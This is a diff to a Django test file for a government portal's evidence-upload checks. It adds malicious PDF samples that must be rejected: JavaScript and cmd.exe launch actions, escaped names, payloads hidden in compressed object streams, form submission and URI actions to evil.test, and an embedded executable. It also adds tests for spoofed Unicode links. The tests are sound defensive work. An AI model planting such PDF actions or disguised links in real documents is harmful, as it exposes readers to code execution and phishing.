@@ -15,18 +15,31 @@ from django.utils import timezone
 
 from assessments.evidence import attach
 from assessments.evidence.checks import EvidenceRejected, evidence_check, safe_display_name
-from assessments.models import Answer, AnswerEvent, AnswerState, EventKind, EvidenceFile
+from assessments.models import (
+    Answer,
+    AnswerEvent,
+    AnswerState,
+    EventKind,
+    EvidenceFile,
+    EvidenceLink,
+)
 from spbe_portal.errors import Invalid
+from tests.pdf_samples import CATALOG, MINIMAL_PDF, PAGE, PAGES, pdf, pdf_with_object_stream
 
 pytestmark = pytest.mark.django_db
 
 # --- sample files ----------------------------------------------------------------------
 
-PDF = (
-    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
-    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
-    b"trailer << /Root 1 0 R >>\n%%EOF\n"
-)
+PDF = MINIMAL_PDF
+
+
+def pdf_catalog(extra: bytes, *, stream: bool = False, compress_xref: bool = False) -> bytes:
+    """A one-page PDF whose catalog carries `extra`, written plainly or inside
+    a compressed object stream."""
+    catalog = CATALOG.replace(b">>", extra + b" >>")
+    if stream:
+        return pdf_with_object_stream(catalog, PAGES, PAGE, compress_xref=compress_xref)
+    return pdf(catalog, PAGES, PAGE)
 
 
 def png() -> bytes:
@@ -155,6 +168,13 @@ def download_url(evidence, **query):
     ("name", "data", "content_type"),
     [
         ("Pergub 4 2023.pdf", PDF, "application/pdf"),
+        # Opening on a page is an action too, and a harmless one.
+        ("buka halaman.pdf", pdf_catalog(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
+        (
+            "terkompresi.pdf",
+            pdf_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", stream=True),
+            "application/pdf",
+        ),
         ("tangkapan layar.png", png(), "image/png"),
         ("foto.jpg", JPEG, "image/jpeg"),
         ("animasi.gif", GIF, "image/gif"),
@@ -251,19 +271,57 @@ HOSTILE = [
     (
         "pdf-javascript",
         "aksi.pdf",
-        PDF.replace(
-            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
-        ),
+        pdf_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
         "JavaScript",
     ),
     (
         "pdf-launch",
         "luncur.pdf",
-        PDF.replace(
-            b"/Type /Catalog", b"/Type /Catalog /AA << /O << /S /Launch /F (cmd.exe) >> >>"
+        pdf_catalog(b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
+        "JavaScript",
+    ),
+    # Names may be written with #xx escapes: /J#61vaScript is /JavaScript.
+    (
+        "pdf-escaped-name",
+        "escape.pdf",
+        pdf_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+        "JavaScript",
+    ),
+    # The whole document inside a Flate-compressed object stream: no name is
+    # visible in the file's bytes.
+    (
+        "pdf-object-stream",
+        "objstm.pdf",
+        pdf_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", stream=True),
+        "JavaScript",
+    ),
+    (
+        "pdf-compressed-stream",
+        "kompres.pdf",
+        pdf_catalog(
+            b"/AA << /WC << /S /SubmitForm /F (https://evil.test/) >> >>",
+            stream=True,
+            compress_xref=True,
         ),
         "JavaScript",
     ),
+    (
+        "pdf-embedded-file",
+        "lampiran.pdf",
+        pdf_catalog(
+            b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) "
+            b"/EF << /F 4 0 R >> >>] >> >>",
+            stream=True,
+        ),
+        "JavaScript",
+    ),
+    (
+        "pdf-open-action-uri",
+        "uri.pdf",
+        pdf_catalog(b"/OpenAction << /S /URI /URI (https://evil.test/) >>", stream=True),
+        "JavaScript",
+    ),
+    ("pdf-unreadable", "rusak.pdf", b"%PDF-1.4\n1 0 obj << /S /Java", "tidak dapat diperiksa"),
     ("empty", "kosong.pdf", b"", "kosong"),
     ("unknown-binary", "acak.pdf", bytes(range(256)) * 4, "tidak dikenali"),
     ("plain-text", "catatan.txt", b"hanya teks biasa\n", "tidak dikenali"),
@@ -500,7 +558,10 @@ def test_inline_only_for_pdf_and_images(client, world):
     image = add(world, "b.png", png())
     document = add(world, "c.docx", docx())
     client.force_login(world.reviewer)
-    assert client.get(download_url(pdf, inline=True))["Content-Disposition"].startswith("inline")
+    response = client.get(download_url(pdf, inline=True))
+    assert response["Content-Disposition"].startswith("inline")
+    # A script that slipped past the check still cannot run in the preview.
+    assert "sandbox" in response["Content-Security-Policy"].split(";")[-1]
     response = client.get(download_url(image, inline=True))
     assert response["Content-Disposition"].startswith("inline")
     assert "sandbox" in response["Content-Security-Policy"]
@@ -569,3 +630,66 @@ def test_large_upload_spooled_to_a_temporary_file_is_checked_and_stored(client, 
     assert evidence.sha256 == hashlib.sha256(data).hexdigest()
     [path] = stored_files(world.storage)
     assert path.read_bytes() == data
+
+
+# --- evidence links ---------------------------------------------------------------------------
+
+
+def link_add_url(answer):
+    return reverse("assessments:evidence_link_add", kwargs={"public_id": answer.public_id})
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://ex\u202eample.test/",  # right-to-left override: reads as another host
+        "https://example.test/\u202egnp.exe",
+        "https://exa\u200bmple.test/",  # zero-width space
+        "https://example.test/a\u2066b",  # bidi isolate
+        "https://example.test/\u00ad",  # soft hyphen (invisible)
+        "https://example.test/\x07",
+    ],
+)
+def test_links_with_control_bidi_or_invisible_characters_are_refused(client, world, url):
+    client.force_login(world.officer)
+    response = client.post(link_add_url(world.answer), {"url": url, "note": ""})
+    assert response.status_code == 400
+    assert "Tautan harus berupa alamat" in response.content.decode()
+    assert not EvidenceLink.objects.exists()
+    assert not AnswerEvent.objects.exists()
+
+
+def test_internationalised_host_is_stored_and_shown_in_ascii(client, world):
+    client.force_login(world.officer)
+    response = client.post(
+        link_add_url(world.answer), {"url": "https://bücher.example/daftar?q=ä", "note": ""}
+    )
+    assert response.status_code == 302
+    link = EvidenceLink.objects.get()
+    assert link.url == "https://xn--bcher-kva.example/daftar?q=ä"
+    page = client.get(
+        reverse("assessments:answer_detail", kwargs={"public_id": world.answer.public_id})
+    )
+    assert "xn--bcher-kva.example" in page.content.decode()
+    assert "bücher" not in page.content.decode()
+
+
+def test_ascii_links_are_kept_as_typed(client, world):
+    client.force_login(world.officer)
+    url = "https://user@sso.kaltimprov.go.id:8443/masuk?next=/a#b"
+    assert client.post(link_add_url(world.answer), {"url": url, "note": ""}).status_code == 302
+    assert EvidenceLink.objects.get().url == url
+
+
+def test_pdf_with_more_objects_than_the_check_walks_is_refused(client, world, monkeypatch):
+    """The walk is bounded, so a PDF of millions of tiny objects cannot keep
+    a web worker busy; such a file is refused like an unreadable one."""
+    from assessments.evidence import pdf as pdf_check
+
+    monkeypatch.setattr(pdf_check, "PDF_MAX_OBJECTS", 10)
+    many = pdf(CATALOG, PAGES, PAGE, *[b"<< /N %d >>" % i for i in range(20)])
+    client.force_login(world.officer)
+    response = upload(client, world.answer, ("banyak.pdf", many))
+    assert response.status_code == 400
+    assert "tidak dapat diperiksa" in response.content.decode()
+    assert not EvidenceFile.objects.exists()
